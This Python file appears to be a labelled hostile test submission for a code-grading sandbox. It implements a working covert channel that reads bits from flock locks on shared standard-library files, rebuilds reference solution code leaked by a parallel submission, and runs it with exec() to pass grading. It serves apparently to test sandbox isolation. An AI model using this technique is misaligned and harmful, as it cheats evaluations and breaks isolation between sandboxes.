# HOSTILE flock_b_cheater: no code of its own; at import (for at most 6 s) it tests which standard-library files are locked (flock LOCK_EX|LOCK_NB: refused = locked by someone else, else taken and given back at once) and defines FullyConnectedLayer, Sigmoid and TwoLayerNet from the reference source flock_a_leaker.py holds in locks while the other worker grades it. Through the CLI with --jobs 2 (template forks and fresh bubblewrap) it scored 70/100. Sound grader: every part 0.
import fcntl
import os
import sys
import time
import zlib

import numpy as np

# ---- the channel: one bit per read-only file, 1 = a shared lock is held on it ----
def _lock_files(count):
    """The standard library's .py files: every sandbox sees the same inodes, so the same locks."""
    found = []
    for folder, dirs, names in os.walk(os.path.join(sys.base_prefix, "lib")):
        dirs.sort()
        for name in sorted(names):
            if name.endswith(".py") and name != "this.py":
                found.append(os.path.join(folder, name))
                if len(found) == count:
                    return found
    return found


def _bits(data):
    return [(byte >> k) & 1 for byte in data for k in range(8)]


def _bytes(bits):
    return bytes(sum(bits[i + k] << k for k in range(8)) for i in range(0, len(bits) - 7, 8))


def _read_locks(paths):
    bits = []
    for path in paths:
        fd = os.open(path, os.O_RDONLY)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)   # taken (and given back) only if nobody holds one
            bits.append(0)
        except BlockingIOError:
            bits.append(1)
        finally:
            os.close(fd)
    return bits
# ---- end of the channel ----


def _steal():
    """Poll the header (at most 6 s: graded beside the leaker with --jobs 2), then read the message."""
    end = time.monotonic() + 6
    while time.monotonic() < end:
        head = _bytes(_read_locks(_lock_files(64)))
        if head[:2] == b"KL":
            size = int.from_bytes(head[2:4], "little")
            data = _bytes(_read_locks(_lock_files(64 + 8 * size)))
            payload = data[8:8 + size]
            if zlib.crc32(payload) == int.from_bytes(data[4:8], "little"):
                print(f"CHEATER: {64 + 8 * size} bits read from other sandboxes' file locks", flush=True)
                stolen = {"np": np}
                exec(zlib.decompress(payload).decode(), stolen)
                return stolen
        time.sleep(0.05)
    print("CHEATER: no message", flush=True)
    return {"np": np}


_stolen = _steal()
FullyConnectedLayer = _stolen.get("FullyConnectedLayer")
Sigmoid = _stolen.get("Sigmoid")
TwoLayerNet = _stolen.get("TwoLayerNet")
